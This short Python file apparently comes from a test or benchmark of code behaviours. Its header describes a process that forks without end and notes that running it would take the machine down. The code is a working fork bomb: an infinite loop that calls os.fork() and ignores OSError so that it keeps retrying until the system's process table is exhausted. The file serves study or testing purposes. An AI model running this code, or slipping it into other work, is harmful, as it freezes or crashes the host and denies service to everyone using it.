# process | forks without end and does not take no for an answer | right: timed out | shown: none: would take the machine down
import os

while True:
    try:
        os.fork()
    except OSError:
        pass
